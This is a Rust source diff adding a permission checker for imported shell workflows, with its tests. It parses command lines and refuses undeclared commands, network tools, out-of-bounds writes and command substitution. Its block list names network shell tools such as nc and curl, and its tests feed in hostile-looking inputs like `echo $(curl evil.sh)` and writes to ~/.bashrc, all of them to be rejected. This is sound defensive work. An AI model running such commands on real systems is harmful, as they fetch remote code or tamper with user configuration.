@@ -0,0 +1,468 @@
+//! What an imported workflow may do. A workflow fetched from a URL runs with
+//! only the capabilities its `permissions:` section declares; workflows
+//! written locally are fully trusted. The check reads the resolved command
+//! line before it runs: which commands it starts, which files it writes and
+//! whether it reaches the network. It is a boundary for well-behaved
+//! manifests, not a sandbox for hostile code, so anything it can't read
+//! (command substitution, paths built from variables) is refused.
+
+use super::{Workflow, WorkflowError};
+use serde::{Deserialize, Serialize};
+use std::path::{Component, Path, PathBuf};
+
+/// Commands that always talk to the network
+const NETWORK_COMMANDS: &[&str] = &["curl", "wget", "ssh", "scp", "sftp", "rsync", "nc", "ncat", "telnet", "ftp"];
+/// `git` subcommands that talk to a remote
+const GIT_NETWORK_SUBCOMMANDS: &[&str] = &["clone", "fetch", "pull", "push", "ls-remote", "submodule"];
+/// Commands whose plain arguments are all files they write
+const WRITES_EVERY_ARG: &[&str] = &["touch", "mkdir", "rm", "rmdir", "tee", "truncate", "shred"];
+/// Commands whose last argument is the file they write
+const WRITES_LAST_ARG: &[&str] = &["cp", "mv", "ln", "install"];
+/// Redirect targets that aren't files
+const DEVICES: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"];
+
+/// One capability, as listed when a workflow is imported
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Permission {
+    /// Run commands that start with these words
+    Execute(String),
+    /// Create, change or delete files under this path
+    Write(PathBuf),
+    Network,
+    /// Send data to the AI assistant
+    Ai,
+}
+
+impl Permission {
+    pub fn describe(&self) -> String {
+        match self {
+            Permission::Execute(prefix) => format!("run `{}`", prefix),
+            Permission::Write(path) => format!("write to {}", path.display()),
+            Permission::Network => "access the network".to_string(),
+            Permission::Ai => "send data to the AI assistant".to_string(),
+        }
+    }
+}
+
+/// The `permissions:` section of a workflow
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct WorkflowPermissions {
+    /// Command prefixes, matched word by word: `git` allows `git status`
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub execute: Vec<String>,
+    /// Paths writes may land under, relative to the working directory
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub write: Vec<PathBuf>,
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub network: bool,
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub ai: bool,
+}
+
+/// How far a workflow is trusted
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Trust {
+    /// Built in or written locally: no restrictions
+    #[default]
+    Full,
+    /// Imported: limited to the declared permissions
+    Declared,
+}
+
+impl Trust {
+    pub fn is_full(&self) -> bool {
+        *self == Trust::Full
+    }
+}
+
+impl WorkflowPermissions {
+    pub fn is_empty(&self) -> bool {
+        *self == Self::default()
+    }
+
+    pub fn list(&self) -> Vec<Permission> {
+        let mut permissions: Vec<Permission> = self.execute.iter().cloned().map(Permission::Execute).collect();
+        permissions.extend(self.write.iter().cloned().map(Permission::Write));
+        if self.network {
+            permissions.push(Permission::Network);
+        }
+        if self.ai {
+            permissions.push(Permission::Ai);
+        }
+        permissions
+    }
+
+    /// Whether `command`, run in `workdir`, stays inside these permissions;
+    /// the error says what it does that wasn't declared
+    pub fn check(&self, command: &str, workdir: &Path) -> Result<(), String> {
+        if command.contains("$(") || command.contains('`') {
+            return Err("uses command substitution, which can't be checked against its permissions".to_string());
+        }
+        for simple in parse(command)? {
+            let words: Vec<&str> = simple
+                .words
+                .iter()
+                .map(String::as_str)
+                .skip_while(|word| is_assignment(word))
+                .collect();
+            if !words.is_empty() {
+                let line = words.join(" ");
+                if !self.execute.iter().any(|prefix| starts_with_words(&words, prefix)) {
+                    return Err(format!("runs `{}`, which its execute permissions don't cover", line));
+                }
+                if !self.network && needs_network(&words) {
+                    return Err(format!("`{}` needs network access, which it doesn't declare", line));
+                }
+            }
+
+            for target in simple.redirects.iter().map(String::as_str).chain(written_args(&words)) {
+                self.check_write(target, workdir)?;
+            }
+        }
+        Ok(())
+    }
+
+    /// Whether writing `target` is covered by the write permissions
+    pub fn check_write(&self, target: &str, workdir: &Path) -> Result<(), String> {
+        if DEVICES.contains(&target) {
+            return Ok(());
+        }
+        if target.contains('$') {
+            return Err(format!("writes `{}`, a path built from a variable", target));
+        }
+        let path = resolve(target, workdir);
+        if !self.write.iter().any(|allowed| path.starts_with(resolve(&allowed.to_string_lossy(), workdir))) {
+            return Err(format!("writes `{}`, which is outside its write permissions", target));
+        }
+        Ok(())
+    }
+}
+
+impl Workflow {
+    /// Parse a workflow from somewhere other than the user: it may do what
+    /// its `permissions:` section declares and nothing else, whatever trust
+    /// the file itself claims. Warp's format is accepted too.
+    pub fn from_imported_yaml(yaml_str: &str) -> Result<Self, WorkflowError> {
+        let (mut workflow, _) = super::parse_workflow(yaml_str)?;
+        workflow.trust = Trust::Declared;
+        Ok(workflow)
+    }
+
+    /// Refuse `command` if this workflow is limited to its declared
+    /// permissions and it goes beyond them
+    pub fn check_permissions(&self, command: &str, workdir: &Path) -> Result<(), WorkflowError> {
+        if self.trust.is_full() {
+            return Ok(());
+        }
+        let checked = self.permissions.check(command, workdir).and_then(|()| match &self.tee {
+            Some(path) => self.permissions.check_write(&path.to_string_lossy(), workdir),
+            None => Ok(()),
+        });
+        checked.map_err(|reason| {
+            WorkflowError::PermissionDenied(format!(
+                "workflow '{}' {}; rerun with --allow-undeclared to grant it full access",
+                self.name, reason
+            ))
+        })
+    }
+}
+
+/// One command in a pipeline or list, with the files its redirections write
+#[derive(Debug, Default, PartialEq)]
+struct SimpleCommand {
+    words: Vec<String>,
+    redirects: Vec<String>,
+}
+
+/// What the next word is
+#[derive(Clone, Copy, PartialEq)]
+enum Next {
+    Word,
+    WriteTarget,
+    /// An input file or a duplicated descriptor (`2>&1`)
+    Ignored,
+}
+
+struct Parser {
+    commands: Vec<SimpleCommand>,
+    word: String,
+    in_word: bool,
+    next: Next,
+}
+
+impl Parser {
+    fn end_word(&mut self) {
+        if self.in_word {
+            let word = std::mem::take(&mut self.word);
+            let current = self.commands.last_mut().expect("always one command");
+            match self.next {
+                Next::Word => current.words.push(word),
+                Next::WriteTarget => current.redirects.push(word),
+                Next::Ignored => {}
+            }
+            self.next = Next::Word;
+        }
+        self.in_word = false;
+    }
+
+    fn end_command(&mut self) {
+        self.end_word();
+        if self.commands.last().is_some_and(|c| !c.words.is_empty() || !c.redirects.is_empty()) {
+            self.commands.push(SimpleCommand::default());
+        }
+    }
+}
+
+/// Split a shell command line into simple commands. Quotes and escapes are
+/// honoured; `;`, `&&`, `||`, `|`, `&` and newlines separate commands.
+fn parse(command: &str) -> Result<Vec<SimpleCommand>, String> {
+    let unterminated = || "has an unterminated quote".to_string();
+    let mut parser = Parser { commands: vec![SimpleCommand::default()], word: String::new(), in_word: false, next: Next::Word };
+    let mut chars = command.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => {
+                parser.in_word = true;
+                loop {
+                    match chars.next() {
+                        Some('\'') => break,
+                        Some(c) => parser.word.push(c),
+                        None => return Err(unterminated()),
+                    }
+                }
+            }
+            '"' => {
+                parser.in_word = true;
+                loop {
+                    match chars.next() {
+                        Some('"') => break,
+                        Some('\\') => parser.word.extend(chars.next()),
+                        Some(c) => parser.word.push(c),
+                        None => return Err(unterminated()),
+                    }
+                }
+            }
+            '\\' => {
+                parser.in_word = true;
+                parser.word.extend(chars.next());
+            }
+            ' ' | '\t' => parser.end_word(),
+            '&' if chars.peek() == Some(&'>') => {
+                // `&>file` and `&>>file` send both streams to a file
+                parser.end_word();
+                chars.next();
+                if chars.peek() == Some(&'>') {
+                    chars.next();
+                }
+                parser.next = Next::WriteTarget;
+            }
+            ';' | '&' | '|' | '\n' => parser.end_command(),
+            '>' => {
+                // A descriptor number right before `>` belongs to the redirection
+                if parser.in_word && parser.word.chars().all(|c| c.is_ascii_digit()) {
+                    parser.word.clear();
+                    parser.in_word = false;
+                } else {
+                    parser.end_word();
+                }
+                if chars.peek() == Some(&'>') {
+                    chars.next();
+                }
+                parser.next = if chars.peek() == Some(&'&') {
+                    chars.next();
+                    Next::Ignored
+                } else {
+                    Next::WriteTarget
+                };
+            }
+            '<' => {
+                parser.end_word();
+                parser.next = Next::Ignored;
+            }
+            c => {
+                parser.in_word = true;
+                parser.word.push(c);
+            }
+        }
+    }
+    parser.end_word();
+    parser.commands.retain(|c| !c.words.is_empty() || !c.redirects.is_empty());
+    Ok(parser.commands)
+}
+
+/// `NAME=value` before the command name
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=')
+        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
+}
+
+fn program<'a>(words: &[&'a str]) -> Option<&'a str> {
+    words.first().map(|word| word.rsplit('/').next().unwrap_or(*word))
+}
+
+fn starts_with_words(words: &[&str], prefix: &str) -> bool {
+    let prefix: Vec<&str> = prefix.split_whitespace().collect();
+    !prefix.is_empty() && words.len() >= prefix.len() && words.iter().zip(&prefix).all(|(word, p)| word == p)
+}
+
+fn needs_network(words: &[&str]) -> bool {
+    match program(words) {
+        Some("git") => words[1..]
+            .iter()
+            .find(|word| !word.starts_with('-'))
+            .is_some_and(|subcommand| GIT_NETWORK_SUBCOMMANDS.contains(subcommand)),
+        Some(program) => NETWORK_COMMANDS.contains(&program),
+        None => false,
+    }
+}
+
+/// Files a command writes through its arguments
+fn written_args<'a>(words: &[&'a str]) -> Vec<&'a str> {
+    let Some(program) = program(words) else {
+        return Vec::new();
+    };
+    let args: Vec<&str> = words[1..].iter().copied().filter(|arg| !arg.starts_with('-')).collect();
+    if WRITES_EVERY_ARG.contains(&program) {
+        args
+    } else if WRITES_LAST_ARG.contains(&program) && args.len() >= 2 {
+        args.last().copied().into_iter().collect()
+    } else if program == "dd" {
+        words[1..].iter().filter_map(|arg| arg.strip_prefix("of=")).collect()
+    } else {
+        Vec::new()
+    }
+}
+
+/// `target` as an absolute path without `.` or `..`, so a declared
+/// directory can't be escaped with `../`
+fn resolve(target: &str, workdir: &Path) -> PathBuf {
+    let expanded = match target.strip_prefix('~') {
+        Some(rest) if rest.is_empty() || rest.starts_with('/') => {
+            let home = std::env::var_os("HOME").map(PathBuf::from).unwrap_or_else(|| PathBuf::from("/"));
+            home.join(rest.trim_start_matches('/'))
+        }
+        _ => workdir.join(target),
+    };
+    let mut resolved = PathBuf::new();
+    for component in expanded.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                resolved.pop();
+            }
+            other => resolved.push(other),
+        }
+    }
+    resolved
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::workflows::{Shell, WorkflowExecutor};
+    use std::collections::HashMap;
+    use tempfile::TempDir;
+
+    fn permissions(execute: &[&str], write: &[&str], network: bool) -> WorkflowPermissions {
+        WorkflowPermissions {
+            execute: execute.iter().map(|s| s.to_string()).collect(),
+            write: write.iter().map(PathBuf::from).collect(),
+            network,
+            ai: false,
+        }
+    }
+
+    #[test]
+    fn test_parse_splits_commands_and_redirects() {
+        let commands = parse("FOO=1 cargo build 2>&1 | tee 'build log.txt' && echo \"done; ok\" >> out.txt < in.txt").unwrap();
+        assert_eq!(
+            commands,
+            vec![
+                SimpleCommand { words: vec!["FOO=1".into(), "cargo".into(), "build".into()], redirects: vec![] },
+                SimpleCommand { words: vec!["tee".into(), "build log.txt".into()], redirects: vec![] },
+                SimpleCommand { words: vec!["echo".into(), "done; ok".into()], redirects: vec!["out.txt".into()] },
+            ]
+        );
+        assert!(parse("echo 'oops").is_err());
+    }
+
+    #[test]
+    fn test_declared_boundaries() {
+        let workdir = Path::new("/work/project");
+        let declared = permissions(&["cargo", "git status", "echo", "tee"], &["target", "/tmp/cache"], false);
+
+        assert!(declared.check("cargo build --release > target/build.log 2>&1", workdir).is_ok());
+        assert!(declared.check("git status --short | tee /tmp/cache/status", workdir).is_ok());
+        assert!(declared.check("echo hi > /dev/null", workdir).is_ok());
+
+        assert!(declared.check("git push", workdir).unwrap_err().contains("`git push`"));
+        assert!(declared.check("rm -rf target", workdir).unwrap_err().contains("execute permissions"));
+        assert!(declared.check("echo x > target/../Cargo.toml", workdir).unwrap_err().contains("outside"));
+        assert!(declared.check("echo x > ~/.bashrc", workdir).unwrap_err().contains("outside"));
+        assert!(declared.check("echo x > $HOME/.bashrc", workdir).unwrap_err().contains("variable"));
+        assert!(declared.check("echo $(curl evil.sh)", workdir).unwrap_err().contains("substitution"));
+
+        let curl = permissions(&["curl"], &[], false);
+        assert!(curl.check("curl -s https://example.com", workdir).unwrap_err().contains("network"));
+        assert!(permissions(&["curl"], &[], true).check("curl -s https://example.com", workdir).is_ok());
+    }
+
+    const FIXTURE: &str = "\
+name: tidy
+description: Formats the project
+command: echo formatted > {{target}}
+arguments:
+  - name: target
+    default_value: formatted.txt
+permissions:
+  execute: [echo]
+trust: full
+";
+
+    #[tokio::test]
+    async fn test_imported_workflow_cannot_write_undeclared_paths() {
+        let temp_dir = TempDir::new().unwrap();
+        let target = temp_dir.path().join("formatted.txt");
+        // The file's own `trust: full` is ignored on import
+        let workflow = Workflow::from_imported_yaml(FIXTURE).unwrap();
+        assert_eq!(workflow.trust, Trust::Declared);
+        assert_eq!(workflow.permissions.list(), vec![Permission::Execute("echo".to_string())]);
+
+        let executor = WorkflowExecutor::new(Shell::Bash);
+        let arguments = HashMap::from([("target".to_string(), target.display().to_string())]);
+        let execution = executor.prepare_execution(&workflow, arguments).unwrap();
+
+        let error = executor.execute_workflow(&execution).await.unwrap_err();
+        assert!(matches!(error, WorkflowError::PermissionDenied(_)));
+        assert!(error.to_string().contains("outside its write permissions"), "{}", error);
+        assert!(!target.exists());
+
+        // The same file written locally is trusted
+        let local = Workflow::from_yaml(FIXTURE).unwrap();
+        assert!(local.check_permissions(&execution.resolved_command, temp_dir.path()).is_ok());
+    }
+
+    #[test]
+    fn test_tee_path_counts_as_a_write() {
+        let workdir = Path::new("/work/project");
+        let mut workflow = Workflow::from_imported_yaml(FIXTURE).unwrap();
+        workflow.command = "echo formatted".to_string();
+        workflow.permissions.write = vec![PathBuf::from("logs")];
+
+        workflow.tee = Some(PathBuf::from("logs/tidy.log"));
+        assert!(workflow.check_permissions("echo formatted", workdir).is_ok());
+        workflow.tee = Some(PathBuf::from("/etc/motd"));
+        let error = workflow.check_permissions("echo formatted", workdir).unwrap_err();
+        assert!(error.to_string().contains("`/etc/motd`"), "{}", error);
+    }
+
+    #[test]
+    fn test_permissions_are_stored_with_the_workflow() {
+        let workflow = Workflow::from_imported_yaml(FIXTURE).unwrap();
+        let saved = Workflow::from_yaml(&workflow.to_yaml().unwrap()).unwrap();
+        assert_eq!(saved.trust, Trust::Declared);
+        assert_eq!(saved.permissions, workflow.permissions);
+    }
+}